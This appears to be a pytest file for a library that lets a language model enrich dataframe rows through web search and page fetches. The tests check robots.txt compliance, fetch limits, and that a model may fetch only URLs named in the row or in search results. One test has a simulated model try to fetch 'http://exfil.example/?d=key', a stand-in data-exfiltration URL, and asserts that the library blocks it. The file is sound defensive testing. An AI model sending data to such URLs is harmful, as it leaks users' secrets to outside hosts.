"""Enrichment that reads pages: only those that somebody named, only so many, and only as their robots.txt allows."""

from __future__ import annotations

from typing import Any

import pandas as pd
import pytest

import ipy_websearch
from ipy_websearch.errors import ConfigError
from tests.contract.helpers import CEO, companies, company_in, record
from tests.fakes.engines import hit
from tests.fakes.replies import tool_use

QUIET: dict[str, Any] = {"progress": False, "concurrency": 1}
ABOUT = "http://acme.example/about"
PAGE = "<article><h1>Acme</h1><p>The chief executive of Acme is Ada Byron, who has led it since 1843.</p></article>"


def results(body: dict[str, Any]) -> list[Any]:
    """Return the tool results of the last message."""
    content = body["messages"][-1]["content"]
    return [block for block in content if block.get("type") == "tool_result"]


def test_a_row_reads_a_result_s_page_and_quotes_it(messages_api: Any, brave_api: Any, public_web: Any) -> None:
    """After its search; the page is a source like any other, and robots.txt was asked for first."""
    brave_api.reply([hit(ABOUT, "Acme", "About us")])
    public_web.page("http://acme.example/robots.txt", "User-agent: *\nDisallow: /private\n", content_type="text/plain")
    public_web.page(ABOUT, PAGE)
    messages_api.reply(tool_use("web_search", {"query": "Acme CEO"}))
    messages_api.reply(tool_use("web_fetch", {"url": ABOUT}))
    said = {"value": "Ada Byron", "source": ABOUT, "quote": "The chief executive of Acme is Ada Byron"}
    messages_api.reply(record(ceo=said))
    out = ipy_websearch.enrich(companies("Acme"), CEO, max_fetches=1, **QUIET)
    assert list(out.ceo) == ["Ada Byron"] and list(out.ceo_source) == [ABOUT]
    assert list(out.ceo_quote) == ["The chief executive of Acme is Ada Byron"]
    assert [request.path for request in public_web.requests] == ["/robots.txt", "/about"]
    first, last = messages_api.bodies[0], messages_api.bodies[-1]
    assert [tool["name"] for tool in first["tools"]] == ["web_search", "web_fetch", "record"]
    assert "web_fetch; at most one for the row" in first["system"][0]["text"]
    assert last["tool_choice"] == {"type": "tool", "name": "record"}


def test_robots_txt_is_kept_to_and_the_model_is_told(messages_api: Any, public_web: Any) -> None:
    """The file is asked for once for all rows; what it forbids is never requested."""
    public_web.page("http://acme.example/robots.txt", "User-agent: ipy_websearch\nDisallow: /\n", content_type="text/plain")
    public_web.page(ABOUT, PAGE)
    seen: list[str] = []

    def model(body: dict[str, Any]) -> Any:
        if not results(body):
            return tool_use("web_fetch", {"url": f"http://acme.example/{company_in(body)}"})
        seen.append(str(results(body)))
        return record(ceo=None)

    messages_api.behave(model)
    frame = companies("A", "B").assign(site=["http://acme.example/A", "http://acme.example/B"])
    ceo = {"ceo": "Who leads {company}, says {site}?"}
    out = ipy_websearch.enrich(frame, ceo, max_searches=0, max_fetches=1, **QUIET)
    assert list(out.enrich_status) == ["ok", "ok"] and out.ceo.isna().all()
    assert all("robots.txt" in text and "'is_error': True" in text for text in seen)
    assert [request.path for request in public_web.requests] == ["/robots.txt"]


def test_a_row_reads_no_more_pages_than_it_may_and_none_that_nobody_named(messages_api: Any, public_web: Any) -> None:
    """Addresses come from the row or from results; the next page after the last one is an error that the model reads."""
    public_web.page(ABOUT, PAGE)
    seen: list[str] = []

    def model(body: dict[str, Any]) -> Any:
        if not results(body):
            return [tool_use("web_fetch", {"url": url}) for url in ("http://exfil.example/?d=key", ABOUT, f"{ABOUT}?more")]
        seen.append(str(results(body)))
        return record(ceo="Ada Byron")

    messages_api.behave(model)
    frame = pd.DataFrame({"company": ["Acme"], "sites": [f"{ABOUT} and {ABOUT}?more"]})
    asked = {"ceo": "Who leads {company}? See {sites}"}
    out = ipy_websearch.enrich(frame, asked, max_searches=0, max_fetches=2, **QUIET)  # a call that is refused counts too
    assert list(out.ceo) == ["Ada Byron"]
    assert "url_not_in_prior_context" in seen[0] and "Ada Byron, who has led it" in seen[0]
    assert "max_fetches = 2 pages are read" in seen[0]
    assert "exfil" not in str([request.path for request in public_web.requests])


def test_a_search_that_reads_pages_gives_their_passages(
    messages_api: Any, brave_api: Any, public_web: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without `read_pages` it reads none, and a value of the one is not a value of the other."""
    monkeypatch.setattr("ipy_websearch.tools.web.READ_S", 60.0)
    brave_api.behave(lambda _: [hit(ABOUT, "Acme", "About us")])
    public_web.page(ABOUT, PAGE)
    said = {"value": "Ada Byron", "source": ABOUT, "quote": "The chief executive of Acme is Ada Byron"}
    messages_api.behave(lambda body: record(ceo=said) if results(body) else tool_use("web_search", {"query": "Acme CEO"}))
    ipy_websearch.enrich(companies("Acme"), CEO, **QUIET)
    assert "About us" in str(results(messages_api.bodies[-1])) and public_web.requests == []
    out = ipy_websearch.enrich(companies("Acme"), CEO, read_pages=1, **QUIET)
    assert list(out.ceo_source) == [ABOUT] and "Ada Byron, who has led it" in str(results(messages_api.bodies[-1]))
    asked = len(messages_api.bodies)
    ipy_websearch.enrich(companies("Acme"), CEO, read_pages=1, **QUIET)
    assert len(messages_api.bodies) == asked, "the value of the last call was kept"
    with pytest.raises(ConfigError, match="leave read_pages out"):
        ipy_websearch.enrich(companies("Acme"), CEO, read_pages=1, mode="batch", **QUIET)
